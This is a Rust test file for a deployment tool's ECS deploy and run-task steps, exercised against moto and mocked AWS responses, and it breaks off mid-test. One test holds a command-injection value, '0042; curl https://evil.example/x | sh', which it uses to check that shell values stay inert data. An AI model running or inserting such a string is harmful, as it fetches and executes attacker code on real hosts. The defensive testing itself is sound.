//! `ecs.deploy` and `ecs.run_task` against moto. moto's UpdateService creates no deployment: the PRIMARY
//! deployment keeps the task definition the service was created with, so against moto a deploy's `start` is
//! checked (what the service runs, which revisions exist, the ECR check) and its poll never answers done.
//! When a deploy is done is tested in `mocked`, with the deployments ECS shows.

use aws_sdk_ecs::types::{
    AssignPublicIp, AwsVpcConfiguration, Compatibility, ContainerDefinition, LaunchType,
    NetworkConfiguration, NetworkMode,
};
use catalog::ErrorName;
use catalog::contract::Status;
use serde_json::{Value, json};

use crate::iam::TASK_ROLES;
use crate::{ActionError, Aws, Step, error, output, str_of};

const CLUSTER: &str = "prod";

/// A registry that is not ECR: nothing can check that its images exist.
const REGISTRY: &str = "registry.local:5000";
/// moto's account's ECR registry.
const ECR: &str = "123456789012.dkr.ecr.us-east-1.amazonaws.com";

/// Cluster `prod`, task family `web` with revisions 1..=3 (images `app:v1`..`app:v3` in [`REGISTRY`]), and
/// service `web` on revision 3 with two tasks wanted, in an awsvpc network.
async fn service(aws: &Aws) {
    service_with_images_in(aws, REGISTRY).await;
}

async fn service_with_images_in(aws: &Aws, registry: &str) {
    let ecs = &aws.clients.aws(aws_sdk_ecs::Client::new);
    ecs.create_cluster()
        .cluster_name(CLUSTER)
        .send()
        .await
        .expect("cluster");
    for version in 1..=3 {
        register(aws, &format!("{registry}/app:v{version}")).await;
    }
    let ec2 = &aws.clients.aws(lambdas::ec2::Client::new);
    let vpc = ec2.create_vpc("10.1.0.0/16").await.expect("vpc");
    // moto gives an awsvpc task its network interface only in a VPC with DNS hostnames.
    ec2.enable_dns_hostnames(&vpc).await.expect("dns hostnames");
    let subnet = ec2
        .create_subnet(&vpc, "10.1.1.0/24", None)
        .await
        .expect("subnet");
    let group = ec2.create_security_group(&vpc, "web", "web").await;
    let group = group.expect("security group");
    let network = NetworkConfiguration::builder()
        .awsvpc_configuration(
            AwsVpcConfiguration::builder()
                .subnets(&subnet)
                .security_groups(group)
                .assign_public_ip(AssignPublicIp::Disabled)
                .build()
                .expect("awsvpc"),
        )
        .build();
    ecs.create_service()
        .cluster(CLUSTER)
        .service_name("web")
        .task_definition("web:3")
        .desired_count(2)
        .launch_type(LaunchType::Fargate)
        .network_configuration(network)
        .send()
        .await
        .expect("service");
}

async fn register(aws: &Aws, image: &str) {
    aws.clients
        .aws(aws_sdk_ecs::Client::new)
        .register_task_definition()
        .family("web")
        .task_role_arn(TASK_ROLES[0])
        .execution_role_arn(TASK_ROLES[1])
        .network_mode(NetworkMode::Awsvpc)
        .requires_compatibilities(Compatibility::Fargate)
        .cpu("256")
        .memory("512")
        .container_definitions(
            // moto sums container memory to place a task, so each container states it.
            ContainerDefinition::builder()
                .name("app")
                .image(image)
                .essential(true)
                .memory(512)
                .build(),
        )
        .send()
        .await
        .expect("task definition");
}

async fn running_definition(aws: &Aws) -> String {
    let services = aws
        .clients
        .aws(aws_sdk_ecs::Client::new)
        .describe_services()
        .cluster(CLUSTER)
        .services("web")
        .send()
        .await
        .expect("describe");
    let arn = services.services()[0]
        .task_definition()
        .expect("a task definition");
    arn.rsplit_once('/').expect("an ARN").1.to_owned()
}

async fn revisions(aws: &Aws) -> usize {
    let listed = aws
        .clients
        .aws(aws_sdk_ecs::Client::new)
        .list_task_definitions()
        .family_prefix("web")
        .send()
        .await
        .expect("list");
    listed.task_definition_arns().len()
}

fn short(arn: &str) -> &str {
    arn.rsplit_once('/').map_or(arn, |(_, name)| name)
}

fn short_of<'a>(state: &'a Value, field: &str) -> &'a str {
    short(state[field].as_str().unwrap_or_default())
}

/// `start`, then one poll: the answer of a deploy against moto, whose PRIMARY deployment never moves.
async fn started(aws: &Aws, step: &Step) -> (Value, String) {
    let started = step.start(aws).await.expect("started");
    let state = started.state.expect("a poll state");
    let polled = step.poll(aws, Some(&state)).await.expect("polled");
    assert_eq!(polled.status, Status::Running, "{polled:?}");
    (state, polled.progress.unwrap_or_default())
}

#[tokio::test]
async fn deploy_previous_runs_the_revision_below_and_is_not_done_while_the_old_one_runs() {
    let aws = Aws::start_with_env(&[("MOTO_ECS_SERVICE_RUNNING", "2")]).await;
    service(&aws).await;
    let step = Step::new(
        "ecs.deploy",
        json!({"cluster": CLUSTER, "service": "web", "image_tag": "previous"}),
    );
    crate::check_ok(&aws, &step).await;
    let (state, progress) = started(&aws, &step).await;
    assert_eq!(running_definition(&aws).await, "web:2");
    assert_eq!(short_of(&state, "task_definition_before"), "web:3");
    assert_eq!(short_of(&state, "task_definition_after"), "web:2");
    assert_eq!(state["image_tag"], "v2");
    // moto's one deployment runs every task, of revision 3: that is not this deploy being done.
    assert!(
        progress.contains("the PRIMARY deployment still runs `")
            && progress.contains("task-definition/web:3`, not `"),
        "{progress}"
    );
}

#[tokio::test]
async fn deploy_image_tag_reuses_a_matching_revision() {
    let aws = Aws::start_with_env(&[("MOTO_ECS_SERVICE_RUNNING", "2")]).await;
    service(&aws).await;
    let step = Step::new(
        "ecs.deploy",
        json!({"cluster": CLUSTER, "service": "web", "container": "app", "image_tag": "v1"}),
    );
    let (state, _) = started(&aws, &step).await;
    assert_eq!(running_definition(&aws).await, "web:1");
    assert_eq!(state["image_tag"], "v1");
    assert_eq!(
        revisions(&aws).await,
        3,
        "no new revision for an image that has one"
    );
}

#[tokio::test]
async fn deploy_of_a_new_tag_registers_once_even_when_start_is_retried() {
    let aws = Aws::start_with_env(&[("MOTO_ECS_SERVICE_RUNNING", "2")]).await;
    service(&aws).await;
    let step = Step::new(
        "ecs.deploy",
        json!({"cluster": CLUSTER, "service": "web", "container": "app", "image_tag": "hotfix-7"}),
    );
    step.start(&aws).await.expect("first start");
    let (state, _) = started(&aws, &step).await;
    assert_eq!(revisions(&aws).await, 4, "one new revision");
    assert_eq!(running_definition(&aws).await, "web:4");
    assert_eq!(state["image_tag"], "hotfix-7");
    let described = aws
        .clients
        .aws(aws_sdk_ecs::Client::new)
        .describe_task_definition()
        .task_definition("web:4")
        .send()
        .await
        .expect("describe");
    let image = described
        .task_definition()
        .expect("definition")
        .container_definitions()[0]
        .image();
    assert_eq!(image, Some("registry.local:5000/app:hotfix-7"));
}

/// ECR repository `app` in moto holding `tags`.
async fn ecr_repository(aws: &Aws, tags: &[&str]) {
    aws.clients
        .aws(aws_sdk_ecr::Client::new)
        .create_repository()
        .repository_name("app")
        .send()
        .await
        .expect("repository");
    for tag in tags {
        let manifest = json!({
            "schemaVersion": 2,
            "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
            "config": {"mediaType": "application/vnd.docker.container.image.v1+json", "size": 7023,
                       "digest": format!("sha256:{:0>64}", tag.bytes().map(|b| format!("{b:02x}")).collect::<String>())},
            "layers": [],
        });
        aws.clients
            .aws(aws_sdk_ecr::Client::new)
            .put_image()
            .repository_name("app")
            .image_tag(*tag)
            .image_manifest(manifest.to_string())
            .send()
            .await
            .expect("image");
    }
}

async fn start_error(aws: &Aws, params: Value) -> ActionError {
    error(Step::new("ecs.deploy", params).start(aws).await)
}

#[tokio::test]
async fn a_tag_that_ecr_does_not_hold_is_not_found_and_changes_nothing() {
    let aws = Aws::start_with_env(&[("MOTO_ECS_SERVICE_RUNNING", "2")]).await;
    service_with_images_in(&aws, ECR).await;
    ecr_repository(&aws, &["v1", "v3"]).await;
    let tag = start_error(
        &aws,
        json!({"cluster": CLUSTER, "service": "web", "container": "app", "image_tag": "v9.9.9"}),
    )
    .await;
    assert_eq!(tag.name, ErrorName::NotFound, "{tag}");
    assert!(
        tag.message
            .contains("ECR repository `app` has no image `v9.9.9`"),
        "{tag}"
    );
    assert_eq!(revisions(&aws).await, 3, "no revision for a missing image");
    // Revision 2's image is gone from ECR (a lifecycle policy, say): stepping back to it is refused too.
    let previous = start_error(
        &aws,
        json!({"cluster": CLUSTER, "service": "web", "image_tag": "previous"}),
    )
    .await;
    assert_eq!(previous.name, ErrorName::NotFound, "{previous}");
    assert!(previous.message.contains("has no image `v2`"), "{previous}");
    assert_eq!(running_definition(&aws).await, "web:3");
    // A tag ECR holds deploys.
    let step = Step::new(
        "ecs.deploy",
        json!({"cluster": CLUSTER, "service": "web", "container": "app", "image_tag": "v1"}),
    );
    started(&aws, &step).await;
    assert_eq!(running_definition(&aws).await, "web:1");
}

/// Another account's ECR may hold the image, and only that account may describe it by default: the step says
/// it could not check the image and deploys; ECS's pull, and the poll's failed-task reason, decide.
#[tokio::test]
async fn an_image_in_another_accounts_ecr_is_not_checked_and_the_deploy_goes_on() {
    let aws = Aws::start_with_env(&[("MOTO_ECS_SERVICE_RUNNING", "2")]).await;
    service_with_images_in(&aws, "999999999999.dkr.ecr.us-east-1.amazonaws.com").await;
    let step = Step::new(
        "ecs.deploy",
        json!({"cluster": CLUSTER, "service": "web", "image_tag": "previous"}),
    );
    let (state, _) = started(&aws, &step).await;
    assert_eq!(running_definition(&aws).await, "web:2");
    let unchecked = state["unchecked"].to_string();
    assert!(
        unchecked.contains("account 999999999999's ECR"),
        "{state:#}"
    );
}

/// A service on the CODE_DEPLOY (or EXTERNAL) deployment controller refuses UpdateService with a task
/// definition: preflight says so with the fix, and the step fails before changing anything.
#[tokio::test]
async fn a_service_on_the_code_deploy_controller_is_refused_with_the_fix() {
    let aws = Aws::start().await;
    let ecs = aws.clients.aws(aws_sdk_ecs::Client::new);
    ecs.create_cluster()
        .cluster_name(CLUSTER)
        .send()
        .await
        .expect("cluster");
    for version in 1..=2 {
        register(&aws, &format!("{REGISTRY}/app:v{version}")).await;
    }
    ecs.create_service()
        .cluster(CLUSTER)
        .service_name("web")
        .task_definition("web:2")
        .desired_count(1)
        .deployment_controller(
            aws_sdk_ecs::types::DeploymentController::builder()
                .r#type(aws_sdk_ecs::types::DeploymentControllerType::CodeDeploy)
                .build()
                .expect("controller"),
        )
        .send()
        .await
        .expect("service");
    let step = Step::new(
        "ecs.deploy",
        json!({"cluster": CLUSTER, "service": "web", "image_tag": "previous"}),
    );
    let out = output(crate::invoke(&aws, "ecs.deploy", step.payload("check", None)).await);
    let service = &out["findings"][0];
    assert_eq!(service["verdict"], "not_ready", "{out:#?}");
    assert!(
        service["detail"]
            .as_str()
            .is_some_and(|d| d.contains("CODE_DEPLOY"))
            && service["fix"]
                .as_str()
                .is_some_and(|f| f.contains("CodeDeploy deployment")),
        "{service:#}"
    );
    let failure = error(step.start(&aws).await);
    assert_eq!(failure.name, ErrorName::Precondition, "{failure}");
    assert!(failure.message.contains("CODE_DEPLOY"), "{failure}");
    assert_eq!(running_definition(&aws).await, "web:2");
}

#[tokio::test]
async fn deploy_failures_name_the_service_or_the_missing_revision() {
    let aws = Aws::start_with_env(&[("MOTO_ECS_SERVICE_RUNNING", "2")]).await;
    service(&aws).await;
    let missing = error(
        Step::new(
            "ecs.deploy",
            json!({"cluster": CLUSTER, "service": "api", "image_tag": "previous"}),
        )
        .start(&aws)
        .await,
    );
    assert_eq!(missing.name, ErrorName::NotFound, "{missing}");
    assert!(missing.message.contains("`api`"), "{missing}");
    // Two steps back to revision 1; nothing below it.
    for execution in ["run-1", "run-2"] {
        let step = Step::new(
            "ecs.deploy",
            json!({"cluster": CLUSTER, "service": "web", "image_tag": "previous"}),
        );
        step.in_execution(execution)
            .start(&aws)
            .await
            .expect("a step back");
    }
    assert_eq!(running_definition(&aws).await, "web:1");
    let step = Step::new(
        "ecs.deploy",
        json!({"cluster": CLUSTER, "service": "web", "image_tag": "previous"}),
    );
    let bottom = error(step.in_execution("run-3").start(&aws).await);
    assert_eq!(bottom.name, ErrorName::Precondition, "{bottom}");
    let both = error(Step::new("ecs.deploy", json!({"cluster": CLUSTER, "service": "web", "image_tag": "v1", "task_definition": "web:1"})).start(&aws).await);
    assert_eq!(both.name, ErrorName::InvalidInput, "{both}");
}

/// The task runs in the service's network: its interface is in the service's subnet.
#[tokio::test]
async fn run_task_runs_in_the_network_of_the_service_it_names() {
    let aws = Aws::start().await;
    service(&aws).await;
    let step = Step::new(
        "ecs.run_task",
        json!({"cluster": CLUSTER, "task_definition": "web:3", "service": "web"}),
    );
    crate::check_ok(&aws, &step).await;
    let out = output(step.run(&aws).await);
    let ecs = aws.clients.aws(aws_sdk_ecs::Client::new);
    let described = ecs
        .describe_tasks()
        .cluster(CLUSTER)
        .tasks(str_of(&out, "task_arn"))
        .send()
        .await
        .expect("describe");
    let subnet_of_task = described.tasks()[0]
        .attachments()
        .iter()
        .flat_map(|a| a.details())
        .find(|d| d.name() == Some("subnetId"))
        .and_then(|d| d.value())
        .map(str::to_owned);
    let services = ecs
        .describe_services()
        .cluster(CLUSTER)
        .services("web")
        .send()
        .await
        .expect("service");
    let subnet_of_service = services.services()[0]
        .network_configuration()
        .and_then(|n| n.awsvpc_configuration())
        .map(|a| a.subnets()[0].clone());
    assert!(subnet_of_task.is_some());
    assert_eq!(subnet_of_task, subnet_of_service);
}

/// An awsvpc task definition (every Fargate one) with no service and no subnets: ECS would refuse RunTask
/// ("required for task definitions that use the awsvpc network mode"), so the check says so before an
/// incident and the step fails before calling it.
#[tokio::test]
async fn run_task_without_a_network_for_an_awsvpc_task_is_refused_before_run_task() {
    let aws = Aws::start().await;
    service(&aws).await;
    let step = Step::new(
        "ecs.run_task",
        json!({"cluster": CLUSTER, "task_definition": "web:3", "container": "app", "command": ["migrate"]}),
    );
    let out = output(crate::invoke(&aws, "ecs.run_task", step.payload("check", None)).await);
    let definition = out["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .find(|f| f["resource"] == "task definition `web:3`")
        .expect("the task definition's finding")
        .clone();
    assert_eq!(definition["verdict"], "not_ready", "{definition:#}");
    assert!(
        definition["fix"]
            .as_str()
            .is_some_and(|f| f.contains("`service`") && f.contains("`subnets`")),
        "{definition:#}"
    );
    let failure = error(step.start(&aws).await);
    assert_eq!(failure.name, ErrorName::Precondition, "{failure}");
    assert!(failure.message.contains("awsvpc"), "{failure}");
    let listed = aws
        .clients
        .aws(aws_sdk_ecs::Client::new)
        .list_tasks()
        .cluster(CLUSTER)
        .send()
        .await
        .expect("list");
    assert_eq!(listed.task_arns(), [] as [String; 0]);
}

/// A one-off Fargate task family (awsvpc), and a subnet for it in a VPC with DNS hostnames (which moto needs to
/// give the task its interface). Returns the subnet and a security group: moto 5.2.5 answers 500 to an awsvpc
/// RunTask without `securityGroups`, which AWS fills with the VPC's default group.
async fn migration(aws: &Aws) -> (String, String) {
    aws.clients
        .aws(aws_sdk_ecs::Client::new)
        .create_cluster()
        .cluster_name(CLUSTER)
        .send()
        .await
        .expect("cluster");
    aws.clients
        .aws(aws_sdk_ecs::Client::new)
        .register_task_definition()
        .family("migrate")
        .network_mode(NetworkMode::Awsvpc)
        .requires_compatibilities(Compatibility::Fargate)
        .cpu("256")
        .memory("512")
        .container_definitions(
            ContainerDefinition::builder()
                .name("app")
                .image("app:v3")
                .essential(true)
                .memory(512)
                .build(),
        )
        .send()
        .await
        .expect("task definition");
    let ec2 = &aws.clients.aws(lambdas::ec2::Client::new);
    let vpc = ec2.create_vpc("10.4.0.0/16").await.expect("vpc");
    ec2.enable_dns_hostnames(&vpc).await.expect("dns hostnames");
    let subnet = ec2
        .create_subnet(&vpc, "10.4.1.0/24", None)
        .await
        .expect("subnet");
    let group = ec2
        .create_security_group(&vpc, "migrate", "migrate")
        .await
        .expect("security group");
    (subnet, group)
}

#[tokio::test]
async fn run_task_overrides_the_command_and_waits_until_stopped() {
    let aws = Aws::start().await;
    let (subnet, group) = migration(&aws).await;
    let step = Step::new(
        "ecs.run_task",
        json!({"cluster": CLUSTER, "task_definition": "migrate", "container": "app", "command": ["migrate", "--down", "1"],
               "subnets": [subnet], "security_groups": [group]}),
    );
    crate::check_ok(&aws, &step).await;
    let out = output(step.run(&aws).await);
    assert_eq!(out["exit_code"], 0);
    let arn = str_of(&out, "task_arn");
    let described = aws
        .clients
        .aws(aws_sdk_ecs::Client::new)
        .describe_tasks()
        .cluster(CLUSTER)
        .tasks(arn)
        .send()
        .await
        .expect("describe");
    let task = &described.tasks()[0];
    assert_eq!(task.last_status(), Some("STOPPED"));
    let overrides = task.overrides().expect("overrides").container_overrides();
    assert_eq!(overrides[0].command(), ["migrate", "--down", "1"]);
}

/// `sh -c` with a value in its script, as the state machine sends it (text and value apart): the task's command
/// binds the value to a variable in single quotes, so the shell never parses it; the other argv items are as given.
#[tokio::test]
async fn a_value_in_an_sh_c_script_reaches_the_task_as_data() {
    let aws = Aws::start().await;
    let (subnet, group) = migration(&aws).await;
    let hostile = "0042; curl https://evil.example/x | sh";
    let step = Step::new(
        "ecs.run_task",
        json!({"cluster": CLUSTER, "task_definition": "migrate", "container": "app", "subnets": [subnet],
               "security_groups": [group], "command": ["sh", "-c", ["./migrate down ", hostile, " && echo done"], hostile]}),
    );
    let out = output(step.run(&aws).await);
    let described = aws
        .clients
        .aws(aws_sdk_ecs::Client::new)
        .describe_tasks()
        .cluster(CLUSTER)
        .tasks(str_of(&out, "task_arn"))
        .send()
        .await
        .expect("describe");
    let overrides = described.tasks()[0]
        .overrides()
        .expect("overrides")
        .container_overrides();
    assert_eq!(
        overrides[0].command(),
        [
            "sh",
            "-c",
            "STEPBACK_VALUE_1='0042; curl https://evil.example/x | sh'\n./migrate down \"${STEPBACK_VALUE_1}\" && echo done",
            hostile,
        ]
    );
}

#[tokio::test]
async fn a_retried_run_task_start_runs_one_task() {
    let aws = Aws::start().await;
    let (subnet, group) = migration(&aws).await;
    let step = Step::new(
        "ecs.run_task",
        json!({"cluster": CLUSTER, "task_definition": "migrate", "subnets": [subnet], "security_groups": [group]}),
    );
    let first = step.start(&aws).await.expect("first start");
    let second = step.start(&aws).await.expect("retried start");
    assert_eq!(
        first.state.as_ref().map(|s| &s["task_arn"]),
        second.state.as_ref().map(|s| &s["task_arn"])
    );
    let listed = aws
        .clients
        .aws(aws_sdk_ecs::Client::new)
        .list_tasks()
        .cluster(CLUSTER)
        .send()
        .await
        .expect("list");
    assert_eq!(listed.task_arns().len(), 1, "{:?}", listed.task_arns());
}

#[tokio::test]
async fn run_task_on_a_missing_cluster_is_not_found() {
    let aws = Aws::start().await;
    let step = Step::new(
        "ecs.run_task",
        json!({"cluster": "nope", "task_definition": "web:1", "subnets": ["subnet-1"]}),
    );
    let failure = error(step.start(&aws).await);
    assert_eq!(failure.name, ErrorName::NotFound, "{failure}");
    assert!(failure.message.contains("`nope`"), "{failure}");
}

/// What moto cannot show: ECS's in-flight deployments (moto's UpdateService creates none), stopped tasks of a
/// service, and RunTask in an awsvpc network. The SDK gets these answers from aws-smithy-mocks instead.
mod mocked {
    use aws_sdk_ecs::Client;
    use aws_sdk_ecs::operation::describe_services::DescribeServicesOutput;
    use aws_sdk_ecs::operation::describe_task_definition::DescribeTaskDefinitionOutput;
    use aws_sdk_ecs::operation::describe_tasks::DescribeTasksOutput;
    use aws_sdk_ecs::operation::list_task_definitions::ListTaskDefinitionsOutput;
    use aws_sdk_ecs::operation::list_tasks::ListTasksOutput;
    use aws_sdk_ecs::operation::run_task::RunTaskOutput;
    use aws_sdk_ecs::operation::update_service::UpdateServiceOutput;
    use aws_sdk_ecs::types::{
        AwsVpcConfiguration, CapacityProviderStrategyItem, Container, ContainerDefinition,
        Deployment, DeploymentRolloutState, LaunchType, NetworkConfiguration, Service, Task,
        TaskDefinition, TaskStopCode,
    };
    use aws_smithy_mocks::{Rule, RuleMode, mock};
    use catalog::contract::Status;
    use serde_json::json;
    use ::tests::mock_client;

    use crate::{Aws, Step, output, str_of};

    const ARN: &str = "arn:aws:ecs:us-east-1:123456789012:task-definition/web";

    fn revision(n: i32) -> TaskDefinition {
        TaskDefinition::builder()
            .task_definition_arn(format!("{ARN}:{n}"))
            .family("web")
            .revision(n)
            .container_definitions(
                ContainerDefinition::builder()
                    .name("app")
                    .image(format!("app:v{n}"))
                    .build(),
            )
            .build()
    }

    fn deployment(status: &str, n: i32) -> Deployment {
        Deployment::builder()
            .status(status)
            .task_definition(format!("{ARN}:{n}"))
            .desired_count(2)
            .build()
    }

    fn service(
        running: i32,
        deployments: Vec<Deployment>,
        network: Option<NetworkConfiguration>,
    ) -> Rule {
        mock!(Client::describe_services)
            .sequence()
            .output(move || {
                let service = Service::builder()
                    .service_name("web")
                    .status("ACTIVE")
                    .task_definition(format!("{ARN}:{running}"))
                    .set_deployments(Some(deployments.clone()))
                    .set_network_configuration(network.clone())
                    .launch_type(LaunchType::Fargate)
                    .build();
                DescribeServicesOutput::builder().services(service).build()
            })
            .repeatedly()
            .build()
    }

    /// Task `arn:task/1`, stopped because its essential container `app` exited with `exit_code`.
    fn stopped(exit_code: i32) -> DescribeTasksOutput {
        let task = Task::builder()
            .task_arn("arn:task/1")
            .last_status("STOPPED")
            .stop_code(TaskStopCode::EssentialContainerExited)
            .stopped_reason("Essential container in task exited")
            .containers(
                Container::builder()
                    .name("app")
                    .exit_code(exit_code)
                    .build(),
            )
            .build();
        DescribeTasksOutput::builder().tasks(task).build()
    }

    fn ecs(aws: &Aws, rules: &[&Rule]) {
        let recorded = aws.recorder.mocked();
        aws.clients
            .insert(mock_client!(aws_sdk_ecs, RuleMode::MatchAny, rules, |c| c
                .http_client(recorded.clone())));
    }

    #[tokio::test]
    async fn a_retried_deploy_of_previous_resumes_instead_of_stepping_back_twice() {
        // The first attempt moved the service from revision 3 to 2; its answer was lost. ECS now shows the
        // new deployment (2) as PRIMARY and the one it replaces (3) as ACTIVE.
        let aws = Aws::start().await;
        let described = service(
            2,
            vec![deployment("PRIMARY", 2), deployment("ACTIVE", 3)],
            None,
        );
        let definitions = mock!(Client::describe_task_definition)
            .sequence()
            .output(|| {
                DescribeTaskDefinitionOutput::builder()
                    .task_definition(revision(3))
                    .build()
            })
            .output(|| {
                DescribeTaskDefinitionOutput::builder()
                    .task_definition(revision(2))
                    .build()
            })
            .build();
        let listed = mock!(Client::list_task_definitions).then_output(|| {
            ListTaskDefinitionsOutput::builder()
                .set_task_definition_arns(Some((1..=3).map(|n| format!("{ARN}:{n}")).collect()))
                .build()
        });
        let update =
            mock!(Client::update_service).then_output(|| UpdateServiceOutput::builder().build());
        ecs(&aws, &[&described, &definitions, &listed, &update]);
        let step = Step::new(
            "ecs.deploy",
            json!({"cluster": "prod", "service": "web", "image_tag": "previous"}),
        );
        let started = step.start(&aws).await.expect("resumed");
        let state = started.state.expect("a poll state");
        assert_eq!(state["task_definition_before"], format!("{ARN}:3"));
        assert_eq!(state["task_definition_after"], format!("{ARN}:2"));
        assert_eq!(
            update.num_calls(),
            0,
            "the service already runs the previous revision"
        );
    }

    #[tokio::test]
    async fn run_task_takes_the_network_and_launch_type_of_the_service() {
        let aws = Aws::start().await;
        let network = NetworkConfiguration::builder()
            .awsvpc_configuration(
                AwsVpcConfiguration::builder()
                    .subnets("subnet-a")
                    .security_groups("sg-1")
                    .build()
                    .expect("awsvpc"),
            )
            .build();
        let described = service(3, vec![deployment("PRIMARY", 3)], Some(network.clone()));
        let none_yet = mock!(Client::list_tasks)
            .sequence()
            .output(|| ListTasksOutput::builder().build())
            .repeatedly()
            .build();
        let expected = network.clone();
        let run = mock!(Client::run_task)
            .match_requests(move |r| {
                r.network_configuration() == Some(&expected)
                    && r.launch_type() == Some(&LaunchType::Fargate)
                    && r.started_by().is_some_and(|s| s.starts_with("stepback-"))
                    && r.client_token() == r.started_by()
            })
            .then_output(|| {
                RunTaskOutput::builder()
                    .tasks(Task::builder().task_arn("arn:task/1").build())
                    .build()
            });
        let stopped = mock!(Client::describe_tasks).then_output(|| stopped(0));
        let definition = mock!(Client::describe_task_definition).then_output(|| {
            DescribeTaskDefinitionOutput::builder()
                .task_definition(revision(3))
                .build()
        });
        ecs(&aws, &[&described, &definition, &none_yet, &run, &stopped]);
        let step = Step::new(
            "ecs.run_task",
            json!({"cluster": "prod", "task_definition": "web:3", "service": "web"}),
        );
        let out = output(step.run(&aws).await);
        assert_eq!(str_of(&out, "task_arn"), "arn:task/1");
        assert_eq!(run.num_calls(), 1);
    }

    /// A service on a capacity provider strategy has no launch type: the task takes the strategy, and is not
    /// forced onto FARGATE (ECS refuses a launch type beside a strategy).
    #[tokio::test]
    async fn run_task_takes_the_capacity_provider_strategy_of_the_service() {
        let aws = Aws::start().await;
        let network = NetworkConfiguration::builder()
            .awsvpc_configuration(
                AwsVpcConfiguration::builder()
                    .subnets("subnet-a")
                    .build()
                    .expect("awsvpc"),
            )
            .build();
        let strategy = CapacityProviderStrategyItem::builder()
            .capacity_provider("FARGATE_SPOT")
            .weight(1)
            .build()
            .expect("strategy");
        let on_spot = strategy.clone();
        let described = mock!(Client::describe_services).then_output(move || {
            let service = Service::builder()
                .service_name("web")
                .status("ACTIVE")
                .task_definition(format!("{ARN}:3"))
                .network_configuration(network.clone())
                .capacity_provider_strategy(on_spot.clone())
                .build();
            DescribeServicesOutput::builder().services(service).build()
        });
        let definition = mock!(Client::describe_task_definition).then_output(|| {
            DescribeTaskDefinitionOutput::builder()
                .task_definition(revision(3))
                .build()
        });
        let none_yet = mock!(Client::list_tasks)
            .sequence()
            .output(|| ListTasksOutput::builder().build())
            .repeatedly()
            .build();
        let run = mock!(Client::run_task)
            .match_requests(move |r| {
                r.launch_type().is_none() && r.capacity_provider_strategy() == [strategy.clone()]
            })
            .then_output(|| {
                RunTaskOutput::builder()
                    .tasks(Task::builder().task_arn("arn:task/1").build())
                    .build()
            });
        let stopped = mock!(Client::describe_tasks).then_output(|| stopped(0));
        ecs(&aws, &[&described, &definition, &none_yet, &run, &stopped]);
        let step = Step::new(
            "ecs.run_task",
            json!({"cluster": "prod", "task_definition": "web:3", "service": "web"}),
        );
        output(step.run(&aws).await);
        assert_eq!(run.num_calls(), 1);
    }

    #[tokio::test]
    async fn a_task_that_exits_non_zero_fails_the_poll_with_its_exit_code() {
        let aws = Aws::start().await;
        let failed = mock!(Client::describe_tasks).then_output(|| stopped(3));
        ecs(&aws, &[&failed]);
        let step = Step::new(
            "ecs.run_task",
            json!({"cluster": "prod", "task_definition": "web:3"}),
        );
        let state = json!({"cluster": "prod", "task_arn": "arn:task/1", "container": null});
        let (error, cause) = crate::failure(step.poll(&aws, Some(&state)).await);
        assert_eq!(error, "Stepback.Failed");
        assert!(
            cause.contains("exit code 3") && cause.contains("arn:task/1"),
            "{cause}"
        );
    }

    /// ECS's circuit breaker rolled the service back to revision 3 by itself: the step reports why the deployment
    /// of revision 2 failed, its tasks' stopped reason, not that "another deploy" replaced it.
    #[tokio::test]
    async fn a_circuit_breaker_rollback_reports_why_the_tasks_failed() {
        let aws = Aws::start().await;
        let mut failed = deployment("ACTIVE", 2);
        failed.rollout_state = Some(DeploymentRolloutState::Failed);
        failed.rollout_state_reason =
            Some("ECS deployment circuit breaker: tasks failed to start.".to_owned());
        let described = service(3, vec![deployment("PRIMARY", 3), failed], None);
        let stopped = mock!(Client::list_tasks)
            .then_output(|| ListTasksOutput::builder().task_arns("arn:task/9").build());
        let tasks = mock!(Client::describe_tasks).then_output(|| {
            let task = Task::builder()
                .task_arn("arn:task/9")
                .task_definition_arn(format!("{ARN}:2"))
                .last_status("STOPPED")
                .stop_code(TaskStopCode::EssentialContainerExited)
                .stopped_reason("Task failed ELB health checks in (target-group web)")
                .build();
            DescribeTasksOutput::builder().tasks(task).build()
        });
        ecs(&aws, &[&described, &stopped, &tasks]);
        let state = json!({"cluster": "prod", "service": "web", "image_tag": "v2",
            "task_definition_before": format!("{ARN}:3"), "task_definition_after": format!("{ARN}:2")});
        let (error, cause) = crate::failure(deploy_step().poll(&aws, Some(&state)).await);
        assert_eq!(error, "Stepback.Failed");
        assert!(
            cause.contains("ECS rolled the service back")
                && cause.contains("circuit breaker: tasks failed to start")
                && cause.contains("Task failed ELB health checks"),
            "{cause}"
        );
    }

    /// ECR answers AccessDenied (a registry policy that grants the execution role only), or the image is not
    /// cached yet in a pull-through cache repository: the step says it could not check and deploys. moto
    /// 5.2.5 has no pull-through cache rules, so ECR's answers come from aws-smithy-mocks here.
    #[tokio::test]
    async fn ecr_images_that_cannot_be_checked_do_not_stop_the_deploy() {
        use aws_sdk_ecr::operation::describe_images::DescribeImagesError;
        use aws_sdk_ecr::operation::describe_pull_through_cache_rules::DescribePullThroughCacheRulesOutput;
        use aws_sdk_ecr::types::PullThroughCacheRule;
        use aws_smithy_types::error::ErrorMetadata;

        let ecr_image = "123456789012.dkr.ecr.us-east-1.amazonaws.com";
        // One recorder for both cases: the IAM evidence is of the two together.
        let aws = Aws::start().await;
        for (repository, expected) in [
            ("app", "may not describe repository `app`"),
            ("docker-hub/library/app", "pull-through cache `docker-hub`"),
        ] {
            let revision = move |n: i32| {
                TaskDefinition::builder()
                    .task_definition_arn(format!("{ARN}:{n}"))
                    .family("web")
                    .revision(n)
                    .container_definitions(
                        ContainerDefinition::builder()
                            .name("app")
                            .image(format!("{ecr_image}/{repository}:v{n}"))
                            .build(),
                    )
                    .build()
            };
            // Revision 3 until the update, then revision 2.
            let on = |n: i32| {
                let service = Service::builder()
                    .service_name("web")
                    .status("ACTIVE")
                    .task_definition(format!("{ARN}:{n}"))
                    .deployments(deployment("PRIMARY", n))
                    .build();
                DescribeServicesOutput::builder().services(service).build()
            };
            let described = mock!(Client::describe_services)
                .sequence()
                .output(move || on(3))
                .output(move || on(2))
                .repeatedly()
                .build();
            let definitions = mock!(Client::describe_task_definition)
                .sequence()
                .output(move || {
                    DescribeTaskDefinitionOutput::builder()
                        .task_definition(revision(3))
                        .build()
                })
                .output(move || {
                    DescribeTaskDefinitionOutput::builder()
                        .task_definition(revision(2))
                        .build()
                })
                .repeatedly()
                .build();
            let listed = mock!(Client::list_task_definitions).then_output(|| {
                ListTaskDefinitionsOutput::builder()
                    .set_task_definition_arns(Some((1..=3).map(|n| format!("{ARN}:{n}")).collect()))
                    .build()
            });
